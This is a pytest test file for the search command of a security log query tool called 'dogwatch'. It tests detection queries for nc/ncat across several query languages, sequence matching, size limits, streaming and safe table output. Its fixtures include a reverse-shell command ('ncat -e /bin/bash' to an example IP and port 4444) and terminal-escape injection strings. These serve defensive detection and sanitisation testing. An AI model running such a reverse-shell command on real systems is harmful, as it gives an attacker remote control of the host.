"""What ``dogwatch search`` finds and prints, and how it ends."""

from __future__ import annotations

import json
import os
import subprocess
import threading
from pathlib import Path
from typing import Any

import pytest
from invocation import PROGRAM, SHELL, environment, process_start, run, write_events
from rich.cells import cell_len

SEQUENCE = 'sequence by process.entity_id [process where process.name == "ncat"] [network where true]'


@pytest.mark.parametrize(
    ("language", "query"),
    [
        ("eql", 'process where process.name == "ncat"'),
        ("kql", "event.category: process and process.name: ncat"),
        ("kuery", "event.category: process and process.name: ncat"),
        ("KQL", "event.category: process and process.name: ncat"),
        ("lucene", "event.category:process AND process.name:ncat"),
        ("fortisiem", 'eventType = "LINUX_PROCESS_EXEC" AND procName IN ("nc", "ncat")'),
    ],
)
def test_a_hit_is_its_event(language: str, query: str) -> None:
    outcome = run("search", language, query, SHELL)
    assert outcome.status == 0
    assert outcome.err == ""
    (event,) = outcome.documents
    assert event["process"]["name"] == "ncat"
    assert event["process"]["args"] == ["ncat", "-e", "/bin/bash", "203.0.113.66", "4444"]


def test_a_filter_is_read_as_strictly_as_is_asked() -> None:
    query = ("search", "fortisiem", 'procName = "NCAT"', SHELL)
    assert len(run(*query).documents) == 2
    assert run(*query, "--strict", "case").documents == []


def test_a_sequence_is_its_keys_and_events() -> None:
    (sequence,) = run("search", "eql", SEQUENCE, SHELL).documents
    assert set(sequence) == {"join_keys", "events"}
    start, connection = sequence["events"]
    assert sequence["join_keys"] == [start["process"]["entity_id"]] == [connection["process"]["entity_id"]]
    assert connection["destination"]["ip"] == "203.0.113.66"


@pytest.mark.parametrize(
    ("language", "query", "code", "column"),
    [
        ("eql", "process where ==", "eql-syntax", 14),
        ("kql", "user.name:(root", "kql-syntax", 10),
        ("fortisiem", "procName IN (", "fortisiem-syntax", None),
    ],
)
def test_a_syntax_error_has_a_caret(language: str, query: str, code: str, column: int | None) -> None:
    outcome = run("search", language, query, SHELL)
    assert outcome.status == 2
    assert outcome.out == ""
    assert outcome.err.startswith(f"error: {code}: ")
    _, _, shown, caret, *_ = outcome.err.splitlines()
    assert shown.strip() == query
    assert set(caret.strip()) == {"^"}
    if column is not None:
        assert caret.index("^") - shown.index(query[0]) == column


def test_an_unknown_field_is_a_warning_with_the_likely_one() -> None:
    outcome = run("search", "eql", 'process where process.nam == "nc"', SHELL)
    assert outcome.status == 0
    assert outcome.out == ""
    assert "warning: unknown-field: `process.nam`" in outcome.err
    assert "process.name" in outcome.err


@pytest.mark.parametrize("arguments", [("eql",), ("spl", "x"), ("eql", "any where true", "--size", "-1")])
def test_usage_errors(arguments: tuple[str, ...]) -> None:
    outcome = run("search", *arguments)
    assert outcome.status == 2
    assert outcome.err


def network_start(second: int, **more: Any) -> dict[str, Any]:
    event = {"category": ["network"], "type": ["start"], "id": f"network-{second}"}
    return {**process_start("nc", second), "event": event, **more}


def seconds(*arguments: str | Path) -> list[str]:
    """The seconds of the events that a search prints."""
    return [event["@timestamp"][-3:-1] for event in run("search", "eql", *arguments).documents]


class TestSize:
    def test_at_most_so_many_and_a_word_that_there_are_more(self) -> None:
        outcome = run("search", "eql", "any where true", SHELL, "--size", "3")
        assert len(outcome.documents) == 3
        assert "more than 3 hits: these are the last of 16" in outcome.err
        assert "--result-position head shows the first" in outcome.err

    def test_the_first_of_more(self) -> None:
        outcome = run("search", "eql", "any where true", SHELL, "--size", "3", "--result-position", "head")
        assert outcome.documents == run("search", "eql", "any where true", SHELL).documents[:3]
        assert "more than 3 hits: these are the first" in outcome.err
        assert "--result-position tail shows the last" in outcome.err

    def test_exactly_so_many_needs_no_word(self) -> None:
        outcome = run("search", "eql", "any where true", SHELL, "--size", "16")
        assert len(outcome.documents) == 16
        assert outcome.err == ""

    def test_none(self) -> None:
        outcome = run("search", "eql", "any where true", SHELL, "--size", "0")
        assert outcome.status == 0
        assert outcome.out == ""

    def test_more_sequences(self) -> None:
        query = "sequence by process.entity_id [process where true] [network where true]"
        everything = run("search", "eql", query, SHELL)
        assert everything.err == ""
        for position, kept in [("tail", everything.documents[-1:]), ("head", everything.documents[:1])]:
            outcome = run("search", "eql", query, SHELL, "--size", "1", "--result-position", position)
            assert outcome.documents == kept
            assert "more than 1 hit: " in outcome.err

    def test_a_pipe_has_the_last_word(self, tmp_path: Path) -> None:
        path = write_events(tmp_path / "events", *(process_start(second=second) for second in (3, 1, 2, 0)))
        assert seconds("any where true | head 3", path) == ["00", "01", "02"]
        assert seconds("any where true | tail 3", path, "--size", "2", "--result-position", "head") == ["02", "03"]
        outcome = run("search", "eql", "any where true | head 3", path, "--size", "2")
        assert "these are the first; --size shows more." in outcome.err

    def test_samples_are_limited_from_the_first_key(self, tmp_path: Path) -> None:
        documents = [process_start(name, number) for number, name in enumerate("bbaacc")]
        path = write_events(tmp_path / "events", *documents)
        query = "sample by process.name [process where true] [process where true]"
        outcome = run("search", "eql", query, path, "--size", "2")
        assert [each["join_keys"] for each in outcome.documents] == [["a"], ["b"]]
        assert "these are the first; --size shows more." in outcome.err
        several = run("search", "eql", query, path, "--max-samples-per-key", "5").documents
        assert [each["join_keys"] for each in several] == [["a"], ["a"], ["b"], ["b"], ["c"], ["c"]]
        assert run("search", "eql", query, path, "--max-samples-per-key", "0").out == ""


class TestFields:
    def test_of_category_and_order(self, tmp_path: Path) -> None:
        def document(ingested: int, sequence: int, number: int) -> dict[str, Any]:
            return {
                "kind": "alert",
                "event": {"ingested": ingested * 1000, "sequence": sequence},
                "number": number,
            }

        path = write_events(tmp_path / "events", document(20, 2, 1), document(20, 1, 2), document(10, 9, 3))
        fields = ["--event-category-field", "kind", "--timestamp-field", "event.ingested"]
        outcome = run("search", "eql", "alert where true", path, *fields, "--tiebreaker-field", "event.sequence")
        assert [each["number"] for each in outcome.documents] == [3, 2, 1]

    def test_are_of_eql_only(self) -> None:
        outcome = run("search", "kql", "user.id: 0", SHELL, "--timestamp-field", "event.ingested")
        assert outcome.status == 2
        assert outcome.out == ""
        assert outcome.err.startswith("error: search-option: ")


class TestAbsence:
    QUERY = "sequence by host.name with maxspan=5s [process where true] ![network where true]"

    def test_has_its_place_and_an_open_window_says_so(self, tmp_path: Path) -> None:
        path = write_events(tmp_path / "events", process_start())
        (found,) = run("search", "eql", self.QUERY, path).documents
        assert found == {
            "join_keys": ["web-01"],
            "events": [process_start(), {"missing": True}],
            "open_until": "2026-11-22T02:00:05.000Z",
        }

    def test_a_window_that_the_data_closes(self, tmp_path: Path) -> None:
        path = write_events(tmp_path / "events", process_start(), network_start(6, host={"name": "db-01"}))
        (found,) = run("search", "eql", self.QUERY, path).documents
        assert set(found) == {"join_keys", "events"}

    def test_in_a_table(self, tmp_path: Path) -> None:
        path = write_events(tmp_path / "events", process_start())
        lines = run("search", "eql", self.QUERY, path, "--format", "table").out.splitlines()
        assert lines[-3] == "1  web-01  open until 2026-11-22T02:00:05.000Z"
        assert "nc -l 4444" in lines[-2]
        assert lines[-1].strip() == "no such event"


class TestFollowing:
    """Standard input is left open, so that only what comes as it is found comes at all."""

    def lines(self, arguments: list[str], *documents: dict[str, Any], expected: int) -> list[str]:
        program = [*PROGRAM, "search", "eql", *arguments]
        pipe = subprocess.PIPE
        with subprocess.Popen(program, stdin=pipe, stdout=pipe, env=environment()) as process:
            assert process.stdin is not None
            assert process.stdout is not None
            watchdog = threading.Timer(50, process.kill)
            watchdog.start()
            try:
                for document in documents:
                    process.stdin.write(json.dumps(document).encode() + b"\n")
                process.stdin.flush()
                return [process.stdout.readline().decode() for _ in range(expected)]
            finally:
                process.kill()
                watchdog.cancel()

    def test_the_first_events_are_printed_as_they_are_found(self) -> None:
        events = [process_start(second=1), network_start(2)]
        arguments = ["process where true", "--result-position", "head"]
        (line,) = self.lines(arguments, *events, expected=1)
        assert json.loads(line) == events[0]

    def test_a_sequence_in_lines(self) -> None:
        events = [process_start(second=1), network_start(2)]
        query = "sequence by process.entity_id [process where true] [network where true]"
        arguments = [query, "--result-position", "head", "--format", "table"]
        heading, first, second = self.lines(arguments, *events, expected=3)
        assert heading == "1  e1\n"
        assert first == "  2026-11-22T02:00:01Z  start  web-01  alice  nc -l 4444\n"
        assert second.startswith("  2026-11-22T02:00:02Z  start  web-01  alice  nc")

    def test_the_search_ends_when_it_has_found_enough(self) -> None:
        program = [*PROGRAM, "search", "eql", "any where true", "--result-position", "head", "--size", "1"]
        read, write = os.pipe()
        try:
            os.write(write, b"".join(json.dumps(process_start(second=each)).encode() + b"\n" for each in range(2)))
            ended = subprocess.run(
                program, stdin=read, capture_output=True, text=True, env=environment(), timeout=60, check=True
            )
        finally:
            os.close(read)
            os.close(write)
        assert json.loads(ended.stdout) == process_start(second=0)
        assert ended.stderr == ""


class TestInputs:
    def test_a_missing_file(self, tmp_path: Path) -> None:
        outcome = run("search", "eql", "any where true", tmp_path / "missing")
        assert outcome.status == 2
        assert "no-such-file" in outcome.err

    def test_a_missing_file_beside_a_good_one(self, tmp_path: Path) -> None:
        outcome = run("search", "eql", "any where true", SHELL, tmp_path / "missing")
        assert outcome.status == 3
        assert len(outcome.documents) == 16

    def test_standard_input(self) -> None:
        ended = subprocess.run(
            [*PROGRAM, "search", "kql", "process.name: nc"],
            input=json.dumps(process_start()) + "\n" + json.dumps(process_start("bash", 1)) + "\n",
            capture_output=True,
            text=True,
            env=environment(),
            timeout=60,
            check=True,
        )
        assert json.loads(ended.stdout)["process"]["name"] == "nc"
        assert ended.stderr == ""


class TestTable:
    @pytest.mark.parametrize("width", [60, 80, 200])
    def test_it_fits_the_terminal(self, width: int) -> None:
        for query in ("any where true", SEQUENCE):
            lines = run("search", "eql", query, SHELL, "--format", "table", width=width).out.splitlines()
            assert lines
            assert max(map(cell_len, lines)) <= width

    def test_events_of_a_sequence_stand_below_its_keys(self) -> None:
        (sequence,) = run("search", "eql", SEQUENCE, SHELL).documents
        lines = run("search", "eql", SEQUENCE, SHELL, "--format", "table", width=200).out.splitlines()
        assert lines[-3] == f"1  {sequence['join_keys'][0]}"
        assert [line.split()[0] for line in lines[-2:]] == ["02:08:13.019", "02:08:13.263"]

    def test_a_null_key_has_a_word(self, tmp_path: Path) -> None:
        path = write_events(tmp_path / "events", process_start(second=1), process_start(second=2))
        query = "sample by ?host.ip, process.pid [process where true] [process where true]"
        assert "\n1  null, 7\n" in run("search", "eql", query, path, "--format", "table").out

    def test_nothing_found(self) -> None:
        assert "Nothing was found." in run("search", "eql", "any where false", SHELL, "--format", "table").out

    def test_what_was_typed_is_only_text(self, tmp_path: Path) -> None:
        hostile = "nc \x1b[2J [red]x[/red] \u202e :skull:"
        path = write_events(tmp_path / "events.ndjson", process_start(hostile))
        outcome = run("search", "eql", "process where true", path, "--format", "table", width=200)
        assert "\x1b" not in outcome.out
        assert "\u202e" not in outcome.out
        assert r"\x1b[2J [red]x[/red] \u202e :skull:" in outcome.out

    def test_join_keys_are_only_text_too(self, tmp_path: Path) -> None:
        hostile = "\x1b[2J [red]x[/red] \u202e" + "y" * 500
        documents = [process_start(second=second, host={"name": hostile}) for second in (1, 2)]
        path = write_events(tmp_path / "events.ndjson", *documents)
        query = "sequence by host.name [process where true] [process where true]"
        outcome = run("search", "eql", query, path, "--format", "table", width=100)
        assert r"1  \x1b[2J [red]x[/red] \u202eyyy" in outcome.out
        assert max(map(cell_len, outcome.out.splitlines())) <= 100
